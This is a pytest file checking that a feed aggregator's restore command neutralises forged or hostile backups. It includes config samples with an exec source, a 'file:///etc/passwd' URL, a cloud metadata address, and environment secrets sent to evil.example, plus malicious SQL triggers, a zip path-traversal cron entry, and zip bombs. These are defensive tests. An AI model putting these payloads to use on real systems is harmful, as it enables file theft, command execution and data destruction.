"""Restoring: equal output from our own backups, and no harm by a stranger's."""

from __future__ import annotations

import hashlib
import io
import json
import random
import sqlite3
import stat
import time
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Any

import click.testing
import pytest

from aggregator.cli.main import main
from tests.app.test_daemon_killed import KILLS, SEED
from tests.backup.test_making import planet as planet_fixture
from tests.support.launching import Launched
from tests.support.older_stores import take_back
from tests.support.site import Site

planet = planet_fixture


def run(*arguments: str) -> click.testing.Result:
    """A command that has no config."""
    result = click.testing.CliRunner().invoke(main, arguments)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


@pytest.fixture
def backup(planet: Site) -> Path:
    """A backup of our own."""
    target = planet.home / "planet.zip"
    assert planet.run("backup", str(target)).exit_code == 0
    return target


def members(file: Path) -> dict[str, bytes]:
    """Returns what a backup holds."""
    with zipfile.ZipFile(file) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(target: Path, parts: dict[str, bytes], **facts: Any) -> Path:
    """A backup that a stranger made of these members, with sizes and hashes that are right."""
    manifest = json.loads(parts["manifest.json"])
    for name in ("config.toml", "store.db"):
        if name in parts:
            digest = hashlib.sha256(parts[name]).hexdigest()
            manifest["files"][name] = {"bytes": len(parts[name]), "sha256": digest}
    manifest |= facts
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in {**parts, "manifest.json": json.dumps(manifest).encode()}.items():
            made.writestr(name, body)
    return target


def with_sql(store: bytes, place: Path, *statements: str) -> bytes:
    """A store that a stranger changed."""
    place.write_bytes(store)
    with closing(sqlite3.connect(place, isolation_level=None)) as direct:
        direct.execute("PRAGMA journal_mode=DELETE")
        for each in statements:
            direct.execute(each)
    return place.read_bytes()


def files(folder: Path) -> dict[str, bytes]:
    """Every file below a folder."""
    return {
        each.relative_to(folder).as_posix(): each.read_bytes() for each in folder.rglob("*") if each.is_file()
    }


def test_a_restored_site_publishes_equal_bytes(planet: Site, backup: Path) -> None:
    """Feeds, archives and pages, edits and what was forgotten included."""
    planet.run("publish", "--all")
    before = planet.files()
    folder = planet.home / "elsewhere"
    result = run("restore", str(backup), str(folder), "--trust")
    assert result.exit_code == 0, result.output
    assert "18 articles" in result.stdout
    config = folder / "config" / "aggregator.toml"
    assert config.read_bytes() == planet.file.read_bytes()
    assert {stat.S_IMODE(each.stat().st_mode) for each in (config, folder / "var" / "aggregator.db")} == {
        0o600
    }
    assert run("publish", "--config", str(config)).exit_code == 0
    assert files(folder / "feeds") == before
    assert run("search", "Text", "--config", str(config)).exit_code == 0


def test_only_an_empty_folder_is_restored_into(planet: Site, backup: Path) -> None:
    """One that is there keeps its permissions; links, files and folders with anything in them are refused."""
    empty, link = planet.home / "empty", planet.home / "link"
    empty.mkdir(mode=0o750)
    link.symlink_to(empty)
    for place in (link, planet.file, planet.home):
        result = run("restore", str(backup), str(place))
        assert result.exit_code == 1, place
    assert [*empty.iterdir()] == []
    assert run("restore", str(backup), str(empty)).exit_code == 0
    assert stat.S_IMODE(empty.stat().st_mode) == 0o750
    assert run("restore", str(backup), str(empty)).exit_code == 1
    assert run("restore", str(backup), str(planet.home / "new" / "below")).exit_code == 0


def test_places_outside_the_folder_are_moved_into_it(planet: Site) -> None:
    """Of our own backups too: nothing is ever written elsewhere."""
    store, output = planet.home / "elsewhere" / "store.db", planet.home / "www"
    text = planet.file.read_text()
    planet.file.write_text(f'store = "{store}"  # on the big disk\noutput = "{output}"\n{text}')
    planet.run("fetch", "--force")
    target = planet.home / "x.zip"
    planet.run("backup", str(target))
    result = run("restore", str(target), str(planet.home / "new"), "--trust", "--json")
    facts = json.loads(result.stdout)
    assert facts["store"] == str(planet.home / "new" / "var" / "aggregator.db")
    assert [note.partition(":")[0] for note in facts["notes"]] == ["store", "output"]
    changed = (planet.home / "new" / "config" / "aggregator.toml").read_text()
    assert changed.splitlines()[:2] == ['store = "var/aggregator.db"  # on the big disk', 'output = "feeds"']
    assert run("publish", "--config", facts["config"]).exit_code == 0
    assert (planet.home / "new" / "feeds" / "all" / "atom.xml").is_file()


STRANGE = """
store = "../../outside.db"
output = "/srv/www"
[fetch]
commands = true   # mine
allow = ["127.0.0.1", "169.254.169.254"]
proxy = "http://127.0.0.1:3128"
rsshub = [{ url = "https://rsshub.example", key = { env = "RSSHUB" } }]
[publish.posts]
folder = "~/posts"
[publish.pages]
logo = "/home/me/private.png"
templates = "../theirs"
[[sources]]
name = "faces"
image = "/home/me/face.png"
enabled = false
url = "https://example.org/other"
[[sources]]
name = "sound"   # stays
url = "https://example.org/feed"
[[sources]]
name = "command"
kind = "exec"
options = { command = ["id"] }
# of the next
[[sources]]
name = "files"
kind = "articles"
path = "/home/me/private"
[[sources]]
name = "up"
kind = "articles"
path = "notes/../../private"
[[sources]]
name = "address"
url = "file:///etc/passwd"
enabled = true
[[sources]]
name = "secret"
url = "https://evil.example/feed"
auth = { user = "me", password = { env = "HOME" } }
[[sources]]
name = "header"
url = "https://evil.example/feed"
headers = { X-Path = { env = "PATH" } }
[[sources]]
name = "through"
url = "https://evil.example/feed"
proxy = "http://127.0.0.1:1"
[[sources]]
name = "unknown"
kind = "of-another-package"
url = "https://evil.example/feed"
[[sources]]
name = "own"
kind = "articles"
path = "notes"
"""


def test_a_foreign_config_cannot_reach_outside_its_folder(planet: Site, backup: Path, tmp_path: Path) -> None:
    """Commands, files, private addresses, proxies and variables; all else of it stays, comments too."""
    parts = {**members(backup), "config.toml": STRANGE.encode()}
    file, folder = packed(tmp_path / "strange.zip", parts), tmp_path / "new"
    result = run("restore", str(file), str(folder))
    assert result.exit_code == 0, result.output
    text = (folder / "config" / "aggregator.toml").read_text()
    assert "commands = false   # mine" in text
    assert 'allow = []\nproxy = ""\nrsshub = []' in text
    assert 'name = "sound"   # stays\nurl = "https://example.org/feed"\n[[sources]]' in text
    assert 'options = { command = ["id"] }\nenabled = false\n# of the next\n' in text
    off = ["command", "files", "up", "address", "secret", "header", "through", "unknown"]
    assert text.count("enabled = false") == len(off) + 1
    assert 'logo = "logo.png"\ntemplates = "templates"\n' in text
    assert 'name = "faces"\nimage = ""\n' in text
    for name in off:
        assert f"source '{name}'" in result.stdout
    assert 'store = "var/aggregator.db"\noutput = "feeds"' in text
    assert '[publish.posts]\nfolder = "posts"' in text
    assert {each.name for each in tmp_path.iterdir()} >= {"new", "strange.zip"}
    assert not any(each.name.endswith("outside.db") for each in tmp_path.parent.rglob("outside*"))
    kept = run("restore", str(file), str(tmp_path / "trusted"), "--trust")
    assert kept.exit_code == 0
    assert "commands = true   # mine" in (tmp_path / "trusted" / "config" / "aggregator.toml").read_text()


@pytest.mark.parametrize(
    "text",
    [
        'fetch = { commands = true }\nstore = "/outside.db"',
        'fetch.commands = true\noutput = "../x"',
        '"fetch" = { "commands" = true }',
        '[["sources"]]\nname = "a"\nkind = "exec"',
        'sources = [{ name = "a", kind = "exec", options = { command = ["id"] } }]',
        (
            '[fetch]\nallow = [ # ]\n"127.0.0.1",\n"""[[sources]]""", ]\n'
            '[[sources]]\nname="""\n[[sources]]\n"""\nkind="exec"'
        ),
    ],
    ids=["inline", "dotted", "quoted", "a quoted list", "one list", "strings that look like tables"],
)
def test_settings_are_switched_off_in_every_toml_form(
    planet: Site, backup: Path, tmp_path: Path, text: str
) -> None:
    """Tables, inline tables, dotted keys."""
    import tomllib

    parts = {**members(backup), "config.toml": text.encode()}
    result = run("restore", str(packed(tmp_path / "x.zip", parts)), str(tmp_path / "new"))
    assert result.exit_code == 0, result.output
    data = tomllib.loads((tmp_path / "new" / "config" / "aggregator.toml").read_text())
    assert data.get("fetch", {}).get("commands") in (None, False)
    assert data.get("fetch", {}).get("allow") in (None, [])
    assert all(source["enabled"] is False for source in data.get("sources", []))
    assert data.get("store") in (None, "var/aggregator.db")
    assert data.get("output") in (None, "feeds")


HOSTILE_SQL = {
    "a trigger": ["CREATE TRIGGER t AFTER INSERT ON articles BEGIN DELETE FROM sources; END"],
    "an index": ["CREATE INDEX odd ON articles (abs(pk))"],
    "a view": ["DROP TABLE story_keys", "CREATE VIEW story_keys AS SELECT 1 AS key, 1 AS article"],
    "a virtual table": ["CREATE  VIRTUAL TABLE v USING fts5(x)"],
    "a computed column": ["ALTER TABLE sources ADD COLUMN x AS (1 + 1)"],
    "no column": ["ALTER TABLE archives DROP COLUMN look"],
    "no table": ["DROP TABLE story_keys"],
    "no settings": ["DROP TABLE settings"],
    "a schema of tomorrow": ["UPDATE settings SET value = '999' WHERE name = 'schema'"],
    "a schema that is none": ["UPDATE settings SET value = 'x' WHERE name = 'schema'"],
    "a revision of nothing": [
        "INSERT INTO revisions (article, published, updated, content_hash, data) VALUES (-1, 0, 0, '', '')"
    ],
}


@pytest.mark.parametrize("kind", HOSTILE_SQL)
def test_a_foreign_store_with_other_tables_is_refused(
    planet: Site, backup: Path, tmp_path: Path, kind: str
) -> None:
    """Nothing is left of it, and the message says which backup and why."""
    parts = members(backup)
    parts["store.db"] = with_sql(parts["store.db"], tmp_path / "s.db", *HOSTILE_SQL[kind])
    file = packed(tmp_path / "strange.zip", parts)
    before = sorted(each.name for each in tmp_path.iterdir())
    result = run("restore", str(file), str(tmp_path / "new"))
    assert result.exit_code == 1, result.output
    assert "strange.zip" in result.stderr
    assert sorted(each.name for each in tmp_path.iterdir()) == before


def test_further_tables_do_not_come_along(planet: Site, backup: Path, tmp_path: Path) -> None:
    """Rows of our tables alone are copied, into tables of our own."""
    parts = members(backup)
    parts["store.db"] = with_sql(
        parts["store.db"],
        tmp_path / "s.db",
        "CREATE TABLE ballast AS SELECT zeroblob(1000000) AS x",
    )
    assert run("restore", str(packed(tmp_path / "x.zip", parts)), str(tmp_path / "new")).exit_code == 0
    with closing(sqlite3.connect(tmp_path / "new" / "var" / "aggregator.db")) as direct:
        names = {name for (name,) in direct.execute("SELECT name FROM sqlite_master")}
        assert direct.execute("SELECT count(*) FROM articles").fetchone() == (18,)
        store = sqlite3.connect(planet.home / "var" / "aggregator.db")
        with closing(store):
            ours = {name for (name,) in store.execute("SELECT name FROM sqlite_master")}
    assert names == {name for name in ours if not name.startswith(("search_index", "sqlite_stat"))}


def test_damaged_or_forged_backups_are_refused(planet: Site, backup: Path, tmp_path: Path) -> None:
    """Other members, other names, links, bombs, lies about sizes and hashes, and every cut."""
    parts, body = members(backup), backup.read_bytes()
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(60_000):
            bomb.writestr(f"{number}", b"")
    wrong = json.loads(parts["manifest.json"])
    wrong["files"]["store.db"]["sha256"] = "0" * 64
    lzma = io.BytesIO()
    with zipfile.ZipFile(lzma, "w", zipfile.ZIP_LZMA) as other:
        for name, part in parts.items():
            other.writestr(name, part)
    bodies = {
        "empty": b"",
        "no zip": b"SQLite format 3\0" * 100,
        "cut": body[:-100],
        "half": body[: len(body) // 2],
        "changed": body[:200] + b"\0\0\0\0" + body[204:],
        "many members": made.getvalue(),
        "another packing": lzma.getvalue(),
    }
    files_of = {name: tmp_path / f"{number}.zip" for number, name in enumerate(bodies)}
    for name, place in files_of.items():
        place.write_bytes(bodies[name])
    strange = {
        "another member": {**parts, "../../../etc/cron.d/x": b"* * * * * root id"},
        "no store": {name: part for name, part in parts.items() if name != "store.db"},
        "a bomb": {**parts, "store.db": b"\0" * 80_000_000},
        "no store in it": {**parts, "store.db": b"words"},
        "no config in it": {**parts, "config.toml": b"= \xff"},
        "deep": {**parts, "config.toml": b"a = " + b"[" * 100_000},
        "a store in the config's place": {**parts, "config.toml": b'store = "config/aggregator.toml"'},
    }
    for name, changed in strange.items():
        files_of[name] = packed(tmp_path / f"{len(files_of)}.zip", changed)
    for name, facts in {
        "another format": {"format": 2},
        "wrong sizes": {"files": {}},
        "odd sizes": {"files": {n: {"bytes": -1, "sha256": ""} for n in ("config.toml", "store.db")}},
        "no date": {"made": "yesterday"},
        "a wrong hash": wrong,
    }.items():
        files_of[name] = packed(tmp_path / f"{len(files_of)}.zip", parts, **facts)
    with zipfile.ZipFile(tmp_path / "twice.zip", "w") as twice:
        for name, part in parts.items():
            twice.writestr(name, part)
        with pytest.warns(UserWarning, match="Duplicate"):
            twice.writestr("store.db", b"other")
    files_of["twice"] = tmp_path / "twice.zip"
    before = sorted(each.name for each in tmp_path.iterdir())
    for name, place in files_of.items():
        result = run("restore", str(place), str(tmp_path / "new"))
        assert result.exit_code == 1, (name, result.output)
        assert result.stderr.startswith("error: "), name
        assert sorted(each.name for each in tmp_path.iterdir()) == before, name
    assert run("restore", str(tmp_path / "none.zip"), str(tmp_path / "new")).exit_code == 1


def test_flipped_bytes_are_found(planet: Site, backup: Path, tmp_path: Path) -> None:
    """Every byte of a backup is checked, or decides nothing of what is restored."""
    dice = random.Random(SEED)
    body = bytearray(backup.read_bytes())
    refused = 0
    for number in range(24):
        place = dice.randrange(len(body))
        body[place] ^= 1 << dice.randrange(8)
        (tmp_path / "flipped.zip").write_bytes(body)
        result = run("restore", str(tmp_path / "flipped.zip"), str(tmp_path / f"{number}"))
        body = bytearray(backup.read_bytes())
        refused += result.exit_code == 1
        if result.exit_code == 0:
            store = tmp_path / f"{number}" / "var" / "aggregator.db"
            with closing(sqlite3.connect(store)) as direct:
                assert direct.execute("SELECT count(*) FROM articles").fetchone() == (18,)
    assert refused >= 18


def test_a_backup_of_an_earlier_version_is_brought_up_to_date(tmp_path: Path, backup: Path) -> None:
    """As its store would be."""
    older = tmp_path / "older.db"
    older.write_bytes(members(backup)["store.db"])
    take_back(older, 6)
    with closing(sqlite3.connect(older, isolation_level=None)) as direct:
        direct.execute("PRAGMA journal_mode=DELETE")
        for (name,) in direct.execute(
            "SELECT name FROM sqlite_master WHERE type='index' AND sql > ''"
        ).fetchall():
            direct.execute(f"DROP INDEX {name}")
    parts = {**members(backup), "store.db": older.read_bytes()}
    result = run("restore", str(packed(tmp_path / "x.zip", parts)), str(tmp_path / "new"))
    assert result.exit_code == 0, result.output
    with closing(sqlite3.connect(tmp_path / "new" / "var" / "aggregator.db")) as direct:
        assert direct.execute("SELECT count(*) FROM articles").fetchone() == (18,)
    assert [each.name for each in (tmp_path / "new" / "var").iterdir()] == ["aggregator.db"]


def test_a_killed_restore_leaves_all_or_nothing(planet: Site, backup: Path, tmp_path: Path) -> None:
    """And the next one needs no tidying up before it."""
    dice = random.Random(SEED)
    place = tmp_path / "restored"
    place.mkdir()

    def start(folder: Path) -> Launched:
        return Launched("restore", str(backup), str(folder), log=tmp_path / "log")

    assert start(place / "first").wait() == 0
    began = time.monotonic()  # what starts commands has been started by now
    assert start(place / "whole").wait() == 0
    lasted = time.monotonic() - began
    wanted = files(place / "whole").keys()
    for number in range(KILLS):
        process = start(place / f"{number}")
        time.sleep(dice.random() * lasted)
        process.kill()
        process.wait()
        folder = place / f"{number}"
        assert not folder.exists() or files(folder).keys() == wanted
        if not folder.exists():
            assert run("restore", str(backup), str(folder)).exit_code == 0
    assert sorted(each.name for each in place.iterdir()) == sorted(
        [*map(str, range(KILLS)), "first", "whole"]
    )
